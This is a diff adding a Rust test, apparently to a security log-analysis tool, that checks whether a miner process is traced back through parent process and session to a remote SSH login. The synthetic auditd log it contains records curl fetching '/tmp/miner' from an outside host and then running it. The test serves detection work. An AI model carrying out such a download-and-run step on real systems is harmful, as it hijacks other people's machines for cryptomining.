@@ -503,3 +503,46 @@ fn every_corpus_sample_chains_within_bounds() {
     println!("{total} chains, {with_logon} in a logon session, {remote} from a remote logon");
     assert!(remote > 0 && with_logon >= remote);
 }
+
+/// An audit log written for the test in auditd's raw format (enriched names after
+/// `\x1d`): sshd (pid 900) logs bob in from 198.51.100.7 as session 5; bash (1001, ppid
+/// 900), then curl fetching /tmp/miner (1002, ppid 1001), then /tmp/miner (1003, ppid
+/// 1001), all in session 5.
+#[test]
+fn audit_processes_lead_back_through_ppid_and_session_to_the_login() {
+    let log = "\
+type=USER_LOGIN msg=audit(1700000000.100:10): pid=900 uid=0 auid=1000 ses=5 msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=/dev/pts/0 res=success'
+type=SYSCALL msg=audit(1700000010.000:11): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=1001 auid=1000 uid=1000 tty=pts0 ses=5 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)\x1dAUID=\"bob\" UID=\"bob\"
+type=EXECVE msg=audit(1700000010.000:11): argc=1 a0=\"-bash\"
+type=SYSCALL msg=audit(1700000020.000:12): arch=c000003e syscall=59 success=yes exit=0 ppid=1001 pid=1002 auid=1000 uid=1000 tty=pts0 ses=5 comm=\"curl\" exe=\"/usr/bin/curl\" key=(null)\x1dAUID=\"bob\" UID=\"bob\"
+type=EXECVE msg=audit(1700000020.000:12): argc=4 a0=\"curl\" a1=\"-o\" a2=\"/tmp/miner\" a3=\"http://203.0.113.7/miner\"
+type=SYSCALL msg=audit(1700000030.000:13): arch=c000003e syscall=59 success=yes exit=0 ppid=1001 pid=1003 auid=1000 uid=1000 tty=pts0 ses=5 comm=\"miner\" exe=\"/tmp/miner\" key=(null)\x1dAUID=\"bob\" UID=\"bob\"
+type=EXECVE msg=audit(1700000030.000:13): argc=1 a0=\"/tmp/miner\"
+";
+    let events = parse(
+        log.as_bytes().to_vec(),
+        "/var/log/audit/audit.log",
+        "web1",
+        None,
+    );
+    assert_eq!(events.len(), 4);
+    let serial = |s: &str| {
+        events
+            .iter()
+            .position(|e| e.attr("audit_serial") == Some(s))
+            .expect("the record") as u64
+    };
+    let (login, bash, curl, miner) = (serial("10"), serial("11"), serial("12"), serial("13"));
+    let chains = chains(&[alarm_on("miner", vec![miner])], &events);
+    assert_eq!(chains.len(), 1);
+    let chain = &chains[0];
+    let links: Vec<Option<u64>> = chain.links.iter().map(|l| l.event).collect();
+    assert_eq!(links, [Some(login), None, Some(bash), Some(miner)]);
+    assert_eq!(chain.links[1].pid.as_deref(), Some("900"));
+    assert_eq!(chain.origin.kind, OriginKind::Logon);
+    assert_eq!(chain.origin.remote_ip.as_deref(), Some("198.51.100.7"));
+    assert_eq!(chain.origin.user.as_deref(), Some("bob"));
+    assert_eq!(chain.context.len(), 1);
+    assert_eq!(chain.context[0].event, Some(curl));
+    assert_eq!(chain.context[0].link, Some(3));
+}
